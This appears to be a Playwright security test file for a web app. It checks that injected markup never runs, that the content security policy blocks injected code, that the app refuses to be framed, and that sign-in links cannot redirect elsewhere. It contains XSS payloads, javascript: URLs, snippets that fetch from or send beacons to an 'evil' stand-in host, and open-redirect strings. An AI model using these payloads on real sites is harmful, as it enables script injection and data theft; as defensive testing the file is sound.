import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { startWebServer } from '../testkit/web-server.ts';
import { type Journey, journey } from '../web/journey.ts';
import * as steps from '../web/steps.ts';

/** Markup that would say so on the page if any of it ran. */
const SCRIPTS = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '"><svg onload=window.pwned=1>',
  "'-(window.pwned=1)-'",
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '{{constructor.constructor("window.pwned=1")()}}',
  '<base href="https://evil.example/">',
  '[x](javascript:window.pwned=1)',
].join(' ');

/** Every page there is, signed in or not; whatever the console calls an error fails the journey. */
const PAGES = [
  '/settings/social-accounts',
  '/settings/anywhere',
  '/settings/share-button',
  '/share',
  '/shares',
  '/no/such/page',
];

journey('finds nothing on its own pages that its policy forbids', async ({ app, open }) => {
  const visitor = await open();
  for (const [path, title] of [
    ['/sign-in', 'Sign in'],
    ['/sign-up', 'Create your account'],
  ] as const) {
    await visitor.page.goto(path);
    await steps.heading(visitor.page, title).waitFor();
  }
  const ada = await app.signUp();
  const { id } = await ada.connected('MASTODON');
  const share = await ada.published({ connectionIds: [id], message: 'Seen by everybody' });
  const { page } = await open({ as: ada });
  for (const path of [...PAGES, `/shares/${share.id}`]) {
    await page.goto(path);
    await page.getByRole('heading', { level: 1 }).waitFor();
  }
  await page.goto('/share');
  await page.getByLabel('Message').fill('With a picture');
  await steps.addImage(page, 'A square');
  await steps.share(page);
  await steps.seeRows(page, 1, 'Published');
});

journey('shows as words what others wrote to be run', async ({ app, open }) => {
  const ada = await app.signUp(SCRIPTS.slice(0, 100));
  const connection = await ada.connected('MASTODON');
  const { prisma } = app.deps;
  // As a network could call its accounts, and say what went wrong.
  await prisma.socialConnection.updateMany({
    data: {
      displayName: SCRIPTS,
      username: SCRIPTS,
      statusReason: SCRIPTS,
      avatarUrl: 'javascript:window.pwned=1',
    },
  });
  const image = await ada.upload({ alt: SCRIPTS });
  const share = await ada.published({
    connectionIds: [connection.id],
    message: SCRIPTS.slice(0, 300),
    url: 'https://example.com/?<script>window.pwned=1</script>',
    title: SCRIPTS.slice(0, 100),
    imageIds: [image],
  });
  await prisma.shareResult.updateMany({ data: { failureMessage: SCRIPTS } });
  const { page } = await open({ as: ada, expects: /javascript:|ERR_UNKNOWN_URL_SCHEME/ });
  const query = new URLSearchParams({
    url: 'https://example.com/',
    title: SCRIPTS,
    description: SCRIPTS,
    image: 'https://example.com/"onerror=window.pwned=1',
    instance: SCRIPTS,
    error: SCRIPTS,
    attempt: SCRIPTS,
  });
  const paths = [
    `/settings/social-accounts?${query}`,
    `/share?${query}`,
    `/shares?${new URLSearchParams({ search: SCRIPTS })}`,
    '/shares',
    `/shares/${share.id}`,
    `/shares/${encodeURIComponent(SCRIPTS)}`,
    `/${encodeURIComponent(SCRIPTS)}`,
  ];
  for (const path of paths) {
    await page.goto(path);
    await page.getByRole('button', { name: /^Account of/ }).waitFor();
    await page.waitForLoadState('networkidle');
    expect(await page.evaluate('window.pwned'), path).toBeUndefined();
    expect(await page.locator('iframe, base, svg[onload], img[onerror]').count(), path).toBe(0);
    expect(
      await page.locator('[href^="javascript:" i], [src^="javascript:" i]').count(),
      path,
    ).toBe(0);
  }
});

/** Attacks by somebody who got markup into a page, each a function of the page that says what it did. */
const INJECTIONS: readonly (readonly [directive: string, code: string])[] = [
  [
    'script-src',
    `document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.pwned = 1' }))`,
  ],
  [
    'script-src',
    `document.head.append(Object.assign(document.createElement('script'), { src: EVIL + '/script.js' }))`,
  ],
  [
    'script-src',
    `document.head.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.pwned=1' }))`,
  ],
  [
    'script-src',
    `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.pwned=1">')`,
  ],
  [
    'script-src',
    `Object.assign(document.createElement('a'), { href: 'javascript:window.pwned=1' }).click()`,
  ],
  [
    'script-src',
    `document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>')`,
  ],
  ['script-src', `setTimeout(() => eval('window.pwned = 1'))`],
  ['script-src', `setTimeout(() => new Function('window.pwned = 1')())`],
  [
    'default-src',
    `document.body.append(Object.assign(document.createElement('iframe'), { src: EVIL + '/frame' }))`,
  ],
  [
    'object-src',
    `document.body.append(Object.assign(document.createElement('object'), { data: EVIL + '/object', type: 'application/pdf' }))`,
  ],
  [
    'base-uri',
    `document.head.append(Object.assign(document.createElement('base'), { href: EVIL + '/' }))`,
  ],
  [
    'form-action',
    `(() => { const form = Object.assign(document.createElement('form'), { action: EVIL + '/form', method: 'post' }); document.body.append(form); form.submit(); })()`,
  ],
  ['connect-src', `fetch(EVIL + '/fetch').catch(() => {})`],
  ['connect-src', `navigator.sendBeacon(EVIL + '/beacon', 'x')`],
  [
    'connect-src',
    `(() => { try { new WebSocket(EVIL.replace('http', 'ws') + '/socket') } catch {} })()`,
  ],
  [
    'style-src-elem',
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: EVIL + '/style.css' }))`,
  ],
  ['font-src', `new FontFace('x', 'url(' + EVIL + '/font)').load().catch(() => {})`],
];

journey('runs, loads and sends nothing that somebody got into a page', async ({ app, open }) => {
  await using evil = await startWebServer((_request, response) => {
    response.setHeader('access-control-allow-origin', '*');
    response.end('window.pwned = 1');
  });
  const ada = await app.signUp();
  const { page } = await open({ as: ada, expects: /./ });
  await page.goto('/settings/social-accounts');
  await steps.heading(page, 'Settings').waitFor();
  await page.evaluate(
    `window.refused = []; addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective))`,
  );
  for (const [directive, code] of INJECTIONS) {
    await page.evaluate('window.refused.length = 0');
    // What the test driver evaluates itself may call eval; what it leaves to a timer may not.
    await page.evaluate(`{ const EVIL = ${JSON.stringify(evil.origin)}; ${code} }`);
    await page
      .waitForFunction('window.refused.length > 0', undefined, { timeout: 5_000 })
      .catch(() => undefined);
    const refused = await page.evaluate<string[]>('[...window.refused]');
    expect(refused.join(), code).toContain(directive.replace('default-src', 'frame-src'));
    expect(await page.evaluate('window.pwned'), code).toBeUndefined();
  }
  expect(evil.requests).toEqual([]);
  expect(page.url()).toBe(`${app.origin}/settings/social-accounts`);
});

journey('is shown in no frame of another page', async ({ app, open }) => {
  const ada = await app.signUp();
  const framed = ['/share', '/sign-in', '/graphql', '/social/connect/threads', '/no/such/page'];
  await using evil = await startWebServer((request, response) => {
    response.setHeader('content-type', 'text/html');
    const path = new URL(request.url ?? '', 'http://x').searchParams.get('path') ?? '';
    response.end(`<!doctype html><iframe id="frame" src="${app.origin}${path}"></iframe>`);
  });
  const { page } = await open({ as: ada, expects: /./ });
  for (const path of framed) {
    const refused = page.waitForEvent('console', (message) =>
      /frame-ancestors|X-Frame-Options/i.test(message.text()),
    );
    await page.goto(`${evil.origin}/?path=${encodeURIComponent(path)}`);
    await refused;
    expect(await textOfFrame(page), path).not.toMatch(/Herald|Sign in|GraphiQL/);
  }
});

async function textOfFrame(page: Page): Promise<string> {
  const frame = await (await page.$('#frame'))?.contentFrame();
  return (await frame?.content().catch(() => '')) ?? '';
}

journey('leads nobody away who signs in with a prepared link', async (world) => {
  await expectOwnAfterSignIn(world, [
    '/.//evil.example/',
    '//evil.example/',
    '/\\evil.example',
    'javascript:window.pwned=1',
  ]);
});

async function expectOwnAfterSignIn(
  { app, open }: Journey,
  paths: readonly string[],
): Promise<void> {
  const ada = await app.signUp();
  for (const returnTo of paths) {
    const { page } = await open();
    await page.goto(`/sign-in?${new URLSearchParams({ returnTo })}`);
    await steps.signIn(page, ada);
    await page.waitForURL(({ pathname }) => pathname !== '/sign-in');
    expect(new URL(page.url()).origin, returnTo).toBe(app.origin);
    // Who is signed in already is sent on at once.
    await page.goto(`/sign-in?${new URLSearchParams({ returnTo })}`);
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    expect(new URL(page.url()).origin, returnTo).toBe(app.origin);
  }
}
